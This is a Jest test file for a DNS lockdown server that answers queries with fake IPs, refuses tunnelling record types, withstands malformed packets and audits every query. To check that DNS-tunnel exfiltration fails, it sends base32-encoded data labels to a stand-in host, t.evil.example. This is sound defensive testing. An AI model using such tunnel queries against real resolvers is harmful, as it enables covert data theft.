// The DNS listener on loopback, queried by real clients: `dig` (UDP and TCP) and Node's
// c-ares resolver. Also: tunnel attempts get nothing, garbage does not take it down, every query
// is audited and counted.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { connect } from 'node:net';
import { promisify } from 'node:util';
import dnsPacket from 'dns-packet';
import { Registry } from 'prom-client';
import { registerDnsMetrics } from '../../src/dns/dns-metrics.ts';
import type { DnsAuditEvent, DnsServer } from '../../src/dns/dns-server.ts';
import { startDnsServer } from '../../src/dns/dns-server.ts';
import { FakeIpMap } from '../../src/dns/fake-ip-map.ts';

const run = promisify(execFile);
let server: DnsServer;
let map: FakeIpMap;
let registry: Registry;
const events: DnsAuditEvent[] = [];

async function dig(...args: string[]): Promise<{ status: string; answers: string[] }> {
  let stdout: string;
  try {
    ({ stdout } = await run('dig', ['@127.0.0.1', '-p', String(server.udp.port), '+tries=1', '+time=3', '+noedns', ...args]));
  } catch (err) {
    if ((err as { code?: string }).code === 'ENOENT') throw new Error('dig not found: install dnsutils (tools/apt.sh)', { cause: err });
    throw err;
  }
  const status = /status: (\w+)/.exec(stdout)?.[1] ?? 'NONE';
  const answers = stdout
    .split('\n')
    .filter((l) => l && !l.startsWith(';') && /\sIN\s/.test(l))
    .map((l) => l.split(/\s+/).at(-1)!);
  return { status, answers };
}

function resolver(): Resolver {
  const r = new Resolver({ timeout: 2000, tries: 1 });
  r.setServers([`127.0.0.1:${server.udp.port}`]);
  return r;
}

/** Sends one TCP stream (frames given), resolves with the response frames received before close. */
function tcpExchange(frames: Buffer[], expect: number): Promise<Buffer[]> {
  return new Promise((resolve, reject) => {
    const socket = connect(server.tcp.port, '127.0.0.1');
    const got: Buffer[] = [];
    let buf = Buffer.alloc(0);
    socket.on('data', (c: Buffer) => {
      buf = Buffer.concat([buf, c]);
      while (buf.length >= 2 && buf.length >= 2 + buf.readUInt16BE(0)) {
        got.push(buf.subarray(2, 2 + buf.readUInt16BE(0)));
        buf = buf.subarray(2 + buf.readUInt16BE(0));
      }
      if (got.length === expect) socket.end();
    });
    socket.on('close', () => resolve(got));
    socket.on('error', reject);
    socket.write(Buffer.concat(frames));
  });
}

const frame = (b: Buffer): Buffer => Buffer.concat([Buffer.from([b.length >> 8, b.length & 255]), b]);

beforeAll(async () => {
  map = new FakeIpMap();
  registry = new Registry();
  const metrics = registerDnsMetrics(registry);
  metrics.track(map);
  server = await startDnsServer({ port: 0, host: '127.0.0.1', map, metrics, onQuery: (e) => events.push(e) });
});

afterAll(async () => {
  await server.close();
});

describe('DNS lockdown server', () => {
  test('dig over UDP: A and AAAA from the synthetic ranges, stable across queries and transports', async () => {
    const a = await dig('github.com', 'A');
    expect(a).toEqual({ status: 'NOERROR', answers: [expect.stringMatching(/^198\.1[89]\./)] });
    const aaaa = await dig('github.com', 'AAAA');
    expect(aaaa.answers).toEqual([expect.stringMatching(/^fd73:6c75:6963::/)]);
    expect((await dig('GITHUB.com', 'A')).answers).toEqual(a.answers);
    expect((await dig('+tcp', 'github.com', 'A')).answers).toEqual(a.answers);
    expect(map.lookupFakeIp(a.answers[0]!)).toBe('github.com');
    expect(map.lookupFakeIp(aaaa.answers[0]!)).toBe('github.com');
  });

  test("Node's resolver (c-ares) gets the same mapping; distinct names get distinct addresses", async () => {
    const r = resolver();
    const [gh] = await r.resolve4('github.com');
    expect(map.lookupFakeIp(gh!)).toBe('github.com');
    const [npm] = await r.resolve4('registry.npmjs.org');
    expect(npm).not.toBe(gh);
    expect(await r.resolve6('registry.npmjs.org')).toEqual([map.addressesFor('registry.npmjs.org').ipv6]);
  });

  test('tunnel attempts get nothing: TXT/MX/ANY refused, long labels answered only from the fake range', async () => {
    const label = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwe3dfnzsw45dfnfuw'; // 60 chars of base32 "data"
    expect(await dig(`${label}.t.evil.example`, 'TXT')).toEqual({ status: 'REFUSED', answers: [] });
    expect(await dig(`${label}.t.evil.example`, 'MX')).toEqual({ status: 'REFUSED', answers: [] });
    expect((await dig('+tcp', 'evil.example', 'ANY')).status).toBe('REFUSED');
    await expect(resolver().resolveTxt(`${label}.t.evil.example`)).rejects.toMatchObject({ code: 'EREFUSED' });
    // An A query on a data-bearing name is answered locally from the pool: no byte of it left the pod,
    // and the answer says nothing but "next free slot".
    const first = await dig(`${label}.t.evil.example`, 'A');
    const second = await dig(`${label.slice(1)}x.t.evil.example`, 'A');
    expect(map.isFakeIp(first.answers[0]!)).toBe(true);
    expect(map.isFakeIp(second.answers[0]!)).toBe(true);
    expect(events.filter((e) => e.name.includes(label)).map((e) => e.result)).toEqual(['refused', 'refused', 'refused', 'answered']);
  });

  test('a server configured for short labels refuses long-label names', async () => {
    const strict = await startDnsServer({ port: 0, map: new FakeIpMap(), answer: { maxLabelLength: 40 } });
    try {
      const r = new Resolver({ timeout: 2000, tries: 1 });
      r.setServers([`127.0.0.1:${strict.udp.port}`]);
      await expect(r.resolve4(`${'q'.repeat(50)}.t.evil.example`)).rejects.toMatchObject({ code: 'ENOTFOUND' });
      expect(await r.resolve4('github.com')).toHaveLength(1);
    } finally {
      await strict.close();
    }
  });

  test('TCP: pipelined frames on one connection, garbage answered with FORMERR, connection survives', async () => {
    const q1 = dnsPacket.encode({ type: 'query', id: 1, questions: [{ name: 'pypi.org', type: 'A' }] });
    const junk = Buffer.from([0xde, 0xad, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 0xff]); // one question whose label length is invalid
    const q2 = dnsPacket.encode({ type: 'query', id: 2, questions: [{ name: 'pypi.org', type: 'AAAA' }] });
    const replies = (await tcpExchange([frame(q1), frame(junk), frame(q2)], 3)).map((b) => dnsPacket.decode(b) as dnsPacket.DecodedPacket & { rcode: string });
    expect(replies.map((r) => [r.id, r.rcode])).toEqual([
      [1, 'NOERROR'],
      [0xdead, 'FORMERR'],
      [2, 'NOERROR'],
    ]);
  });

  test('malformed UDP datagrams do not crash the server', async () => {
    const sock = createSocket('udp4');
    const sends = [Buffer.alloc(0), Buffer.from([1]), Buffer.alloc(512, 0xff), dnsPacket.encode({ type: 'response', id: 9, questions: [{ name: 'x.example', type: 'A' }] })];
    for (const b of sends) await new Promise<void>((resolve, reject) => sock.send(b, server.udp.port, '127.0.0.1', (err) => (err ? reject(err) : resolve())));
    sock.close();
    expect((await dig('still.alive.example', 'A')).status).toBe('NOERROR');
  });

  test('every query is audited and counted by type and result', async () => {
    expect(events.length).toBeGreaterThan(10);
    expect(events.every((e) => e.transport === 'udp' || e.transport === 'tcp')).toBe(true);
    const text = await registry.metrics();
    expect(text).toMatch(/sluice_dns_queries_total\{type="A",result="answered"\} \d+/);
    expect(text).toMatch(/sluice_dns_queries_total\{type="TXT",result="refused"\} [1-9]/);
    expect(text).toMatch(/sluice_dns_refusals_total\{reason="malformed_packet"\} [1-9]/);
    expect(text).toMatch(/sluice_dns_queries_by_transport_total\{transport="tcp"\} [1-9]/);
    expect(text).toContain(`sluice_dns_fake_ip_entries ${map.size}`);
  });
});
